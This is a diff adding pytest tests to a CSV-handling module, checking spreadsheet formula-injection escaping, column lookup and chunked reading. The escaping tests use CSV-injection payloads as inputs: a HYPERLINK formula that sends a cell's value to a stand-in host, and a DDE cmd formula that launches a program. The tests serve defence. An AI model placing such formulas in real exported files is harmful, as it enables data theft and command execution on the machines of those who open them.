@@ -6,7 +6,7 @@ import os
 
 import pytest
 
-from daemon.data.csvfile import read_csv
+from daemon.data.csvfile import csv_text, find_column, read_chunks, read_csv, safe_cell, scan_csv
 from daemon.data.dataset import load_dataset
 from daemon.errors import DatasetError, DatasetFormatError, EmptyDatasetError
 from daemon.data.synthetic import MAPPING, synthetic_rows
@@ -134,3 +134,74 @@ def test_fifo_in_place_of_the_dataset_is_refused_without_blocking(tmp_path):
         read_csv(tmp_path / "visits.csv")
     assert (info.value.file, str(info.value).split(":")[0]) == ("visits.csv", "visits.csv")
     assert "not a regular file" in str(info.value)
+
+
+@pytest.mark.parametrize("cell, written", [
+    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"),
+    ("-", "'-"),
+    ("-3", "-3"),
+    ("+1.5", "+1.5"),
+    ("-0.25", "-0.25"),
+    ("-.5", "-.5"),
+    ("-1e3", "-1e3"),
+    ("Match", "Match"),
+    ("a=b", "a=b"),
+    ("", ""),
+    (-1, "-1"),
+    (None, ""),
+])
+def test_safe_cell_quotes_formulas_and_keeps_plain_numbers(cell, written):
+    """Cells starting with = + - @, a tab or a carriage return get a leading single quote (OWASP);
+    plain numbers and other text are written as they are."""
+    assert safe_cell(cell) == written
+
+
+def test_csv_text_writes_every_cell_safely():
+    """csv_text quotes as CSV does and passes every cell, header included, through safe_cell."""
+    assert csv_text([["=id", "rating"], ["-1", '=HYPERLINK("h","c")']]) == (
+        "'=id,rating\n-1,\"'=HYPERLINK(\"\"h\"\",\"\"c\"\")\"\n")
+
+
+def test_find_column_takes_the_exact_name_then_any_case():
+    """The exact spelling wins; otherwise a known column is found in another case; None when absent."""
+    assert find_column(["C_Biosense_ID", "Row_ID"], ("Row_ID", "C_BioSense_ID")) == "Row_ID"
+    assert find_column(["c_biosense_id", "Row_ID"], ("C_BioSense_ID",)) == "c_biosense_id"
+    assert find_column(["Visit", "C_Biosense_ID"], ("Row_ID", "C_BioSense_ID")) == "C_Biosense_ID"
+    assert find_column(["row id"], ("Row_ID",)) is None
+
+
+def test_scan_csv_counts_rows_and_read_chunks_streams_the_asked_columns(tmp_path):
+    """scan_csv counts the rows of a file longer than its parse chunk without keeping them;
+    read_chunks gives them again in order from a start row, only the asked columns, a chunk at a time."""
+    rows = 12_003
+    lines = ["Row_ID,formatted_prompt,Standardized_Rating"] + [f"R{i},visit {i},{i % 2}" for i in range(rows)]
+    table = scan_csv(write(tmp_path / "big.csv", "\n".join(lines) + "\n"), chunk_rows=5_000)
+    assert (table.rows, table.columns, table.info.file) == (
+        rows, ("Row_ID", "formatted_prompt", "Standardized_Rating"), "big.csv")
+    chunks = list(read_chunks(table, 5_000, ["formatted_prompt", "Row_ID"], start=4_998))
+    assert [(first, len(chunk), list(chunk.columns)) for first, chunk in chunks] == [
+        (4_998, 2, ["Row_ID", "formatted_prompt"]), (5_000, 5_000, ["Row_ID", "formatted_prompt"]),
+        (10_000, 2_003, ["Row_ID", "formatted_prompt"])]
+    ids = [i for _, chunk in chunks for i in chunk["Row_ID"].tolist()]
+    assert ids == [f"R{i}" for i in range(4_998, rows)]
+    assert chunks[0][1]["formatted_prompt"].tolist() == ["visit 4998", "visit 4999"]
+
+
+def test_scan_csv_names_an_oversized_cell_by_its_row_past_the_first_chunk(tmp_path):
+    """A multi-line cell over the limit in a later parse chunk is reported at its own data row;
+    a header with no rows is an EmptyDatasetError, as read_csv says."""
+    cell = "\n".join([f"{MARKER} line"] * 20)
+    text = "formatted_prompt,Standardized_Rating\n" + "ok,1\n" * 2_500 + f'"{cell}",1\n'
+    with pytest.raises(DatasetFormatError) as info:
+        scan_csv(write(tmp_path / "ml.csv", text), max_cell_bytes=200, chunk_rows=1_000)
+    assert (info.value.row, info.value.column) == (2_501, "formatted_prompt")
+    assert MARKER not in str(info.value)
+    with pytest.raises(EmptyDatasetError) as info:
+        scan_csv(write(tmp_path / "head.csv", "formatted_prompt,Standardized_Rating\n"))
+    assert info.value.message == "head.csv: the file has a header but no data rows"
